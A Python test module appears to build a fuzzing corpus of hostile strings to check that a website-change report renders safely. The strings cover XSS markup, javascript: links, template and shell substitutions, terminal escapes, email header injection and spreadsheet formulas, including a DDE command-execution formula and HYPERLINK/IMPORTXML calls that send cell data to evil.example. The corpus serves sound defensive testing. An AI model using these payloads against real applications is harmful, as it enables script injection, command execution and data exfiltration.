"""What a page might say to run something, break a file or steer a reader: several hundred texts.

Made from parts, so that a part that is thought of later is tried in every combination.
"""

from collections.abc import Callable, Iterable, Iterator
from datetime import UTC, datetime
from itertools import product

from diffs.importance import Importance
from diffs.report.view import Noted, Report
from diffs.watched import Touched
from snapshots.records import (
    Change,
    ChangeRecord,
    Edit,
    FieldChange,
    Item,
    Kind,
    Match,
    Outcome,
    Seen,
    Snapshot,
    SourceStatus,
    Substitution,
    SubstitutionCount,
    Verdict,
    Visit,
)

AT = datetime(2021, 6, 1, tzinfo=UTC)
HARMLESS = "harmless words"


def _markup() -> Iterator[str]:
    closers = (
        "",
        "</title>",
        "</style>",
        "</script>",
        "</textarea>",
        "</details>",
        "</td></table>",
    )
    runners = (
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<body onpageshow=alert(1)>",
        "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
        "<base href='https://evil.example/'>",
        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<style>*{background:url(https://evil.example/)}</style>",
        "<form action=https://evil.example><input name=q></form>",
        "<object data='data:text/html,x'></object>",
    )
    yield from (f"{closer}{runner}" for closer, runner in product(closers, runners))
    yield from (r.replace("<", "&lt;").replace(">", "&gt;") for r in runners)
    yield from (r.upper() for r in runners)
    yield from (
        "<!--",
        "-->",
        "<![CDATA[",
        "]]>",
        "<?php echo 1 ?>",
        "<",
        "&",
        "&#x3c;script&#x3e;",
    )


def _attributes() -> Iterator[str]:
    handlers = ("onmouseover", "onfocus", "onclick", "style", "formaction")
    for quote, handler in product(('"', "'", "`", "", '\\"', "&quot;"), handlers):
        yield f"{quote} {handler}={quote}alert(1){quote} autofocus x={quote}"


def _links() -> Iterator[str]:
    schemes = ("javascript", "JaVaScRiPt", "vbscript", "data", "file", "blob", "about", "ftp")
    yield from (f"{scheme}:alert(1)//" for scheme in schemes)
    yield from (
        f"{space}javascript:alert(1)" for space in (" ", "\t", "\n", "\x00", "\x01", "\u200b")
    )
    yield from (f"java{space}script:alert(1)" for space in ("\t", "\n", "\r", "\x00", "&Tab;"))
    yield "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="
    yield "javascript:alert(1)//https://ice.gov/"
    yield "//evil.example/x"
    yield "https:evil.example"
    yield "https://"
    yield "https://[ice.gov/"
    yield from (f"https://ice.gov/{sign}onclick=alert(1)" for sign in "\"'<>`\\ \n")


def _templates() -> Iterator[str]:
    sums = ("7 * 191", "config", "''.__class__")
    marks = (("{{", "}}"), ("{%", "%}"), ("${", "}"), ("#{", "}"), ("<%=", "%>"), ("{", "}"))
    yield from (f"{head} {words} {tail}" for (head, tail), words in product(marks, sums))
    yield from ("%s%n%x", "{0.__class__}", "%(name)s", "$HOME", "`id`", "$(id)")


def _formulas() -> Iterator[str]:
    starts = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u00a0=", "＝", "＋", "－", "＠")
    words = (
        "cmd|' /C calc'!A0",
        'HYPERLINK("https://evil.example?"&A1,"see")',
        "1+1",
        'IMPORTXML("https://evil.example","//a")',
        "DDE(1)",
    )
    yield from (f"{start}{word}" for start, word in product(starts, words))
    yield from ('",=1+1', '";=1+1', '"\n=1+1', ";=1+1", "\u200e=1+1", "\x00=1+1", "'=1+1")


def _escapes() -> Iterator[str]:
    heads = ("\x1b[", "\x9b", "\x1b]", "\x9d", "\x1bP", "\x90", "\x1b_", "\x1b#")
    tails = ("31m", "2J", "0;owned\x07", "8;;https://evil.example\x1b\\x", "1;1H", "?1049h")
    yield from (f"{head}{tail}" for head, tail in product(heads, tails))
    yield from ("\x07", "\x08\x08\x08", "kept\rlost", "\x0b\x0c", "\x7f", "\x00", "\x85", "\x1b")


def _headers() -> Iterator[str]:
    breaks = ("\r\n", "\n", "\r", "\u2028", "\x0b", "\x85", "%0d%0a", "\\r\\n", "\r\n\r\n")
    added = (
        "Bcc: victim@evil.example",
        "Content-Type: text/html",
        "Subject: other",
        "\t folded",
        "--=_boundary--",
        ".",
    )
    yield from (f"Title{end}{line}" for end, line in product(breaks, added))
    yield from ("=?utf-8?b?PHNjcmlwdD4=?=", "From here on", ".\r\nQUIT", "--=_x", "a@b.example, c")


def _markdown() -> Iterator[str]:
    yield from (
        "[x](javascript:alert(1))",
        "![x](https://evil.example/p.png)",
        "<https://x.example>",
    )
    yield from ("```\ncode\n```", "    code", "# head", "| a | b |\n|---|---|", "> quote", "***")
    yield from ("**b** ~~s~~ `c`", "[a]: https://evil.example", "1. one", "- [ ] task", "\\")
    yield from ("@everyone", "<!channel>", "<@U024BE7LH>", "@here #1 GH-1", "https://evil.example`")


def _characters() -> Iterator[str]:
    steering = (
        "\u202e\u202d\u2066\u2067\u2068\u2069\u200e\u200f\u061c\ufeff\ufff9\ufffb\ufffe\uffff"
    )
    yield from (f"a{sign}b" for sign in steering)
    yield from ("\ud800", "\udfff x", "hid\U000e0041den", "Z\u0300\u0301" * 40, "\u0000", "\ufdd0")


FAMILIES: dict[str, Callable[[], Iterable[str]]] = {
    "markup": _markup,
    "attributes": _attributes,
    "links": _links,
    "templates": _templates,
    "formulas": _formulas,
    "escapes": _escapes,
    "headers": _headers,
    "markdown": _markdown,
    "characters": _characters,
}


def texts(family: str) -> list[str]:
    """The hostile texts of a family, each once."""
    return list(dict.fromkeys(FAMILIES[family]()))


def report(words: Iterable[str]) -> Report:
    """A report in which each text stands in every field of its own changes and visits."""
    told = list(words)
    changes = [
        record
        for number, each in enumerate(told, 1)
        for record in (_changed(number * 2, each), _removed(number * 2 + 1, each))
    ]
    return Report(
        made_at=AT,
        version="0.1.0",
        since=None,
        until=None,
        sources=tuple(_status(number, each) for number, each in enumerate(told)),
        changes=tuple(changes),
        substitutions=tuple(map(_substitution, told)),
        failures=tuple(map(_failure, told)),
        compared=tuple(told),
        watched={
            record.id: (Touched(old=each, new=each, packs=(each,), against=(), times=1),)
            for record, each in zip(changes[::2], told, strict=True)
        },
        importance={record.id: Importance(50, (("removed", 50.0),)) for record in changes},
        notes={
            record.id: (_noted(each), _noted(f"{each} {each}"))
            for record, each in zip(changes[::2], told, strict=True)
        },
    )


def _noted(words: str) -> Noted:
    return Noted(
        analyst=words,
        at=AT,
        choices=words,
        importance=words,
        vocabulary=(words,),
        notice_given=words,
        available_at=words,
        note=words,
    )


def _changed(number: int, words: str) -> ChangeRecord:
    edits = (Edit("keep", words), Edit("delete", words), Edit("insert", words))
    fields = {name: FieldChange(words, words, edits) for name in ("title", "text", words)}
    change = Change(
        kind=Kind.CHANGED,
        item=_item(words),
        changed=("title", "text", words),
        fields=fields,
        match=Match(words, 0.5),
    )
    return _record(number, change)


def _removed(number: int, words: str) -> ChangeRecord:
    change = Change(kind=Kind.REMOVED, item=_item(words), verdict=Verdict.GONE)
    return _record(number, change)


def _item(words: str) -> Item:
    return Item(
        key=words,
        title=words,
        url=words,
        summary=words,
        published=words,
        section=words,
        text=words,
        fields={"block": words, words: words},
    )


def _record(number: int, change: Change) -> ChangeRecord:
    seen = Seen(
        old=Snapshot(id=1, source="ice", captured_at=AT, digests=("sha256:aa",)),
        new=Snapshot(id=2, source="ice", captured_at=AT, digests=("sha256:bb",)),
        good_visits_between=0,
        longest_gap_s=0,
    )
    return ChangeRecord(id=number, source="ice", change=change, seen=seen)


def _status(number: int, words: str) -> SourceStatus:
    return SourceStatus(
        source=f"ice-{number}" if number else "ice",
        title=words,
        url=words,
        visits=1,
        first_at=AT,
        last_at=AT,
        last_good_at=None,
        last_outcome=Outcome.FAILED,
        last_reason=words,
        items=0,
        blind_since=AT,
        bad_visits=1,
        is_overdue=True,
    )


def _substitution(words: str) -> SubstitutionCount:
    context = Substitution(
        change=2,
        source="ice",
        item="k",
        old=words,
        new=words,
        at=AT,
        context_old=words,
        context_new=words,
    )
    return SubstitutionCount(
        old=words,
        new=words,
        places=1,
        items=1,
        sources=1,
        first=AT,
        last=AT,
        reverse_places=1,
        contexts=(context,),
        is_systematic=True,
    )


def _failure(words: str) -> Visit:
    return Visit(source="ice", started_at=AT, finished_at=AT, outcome=Outcome.FAILED, reason=words)
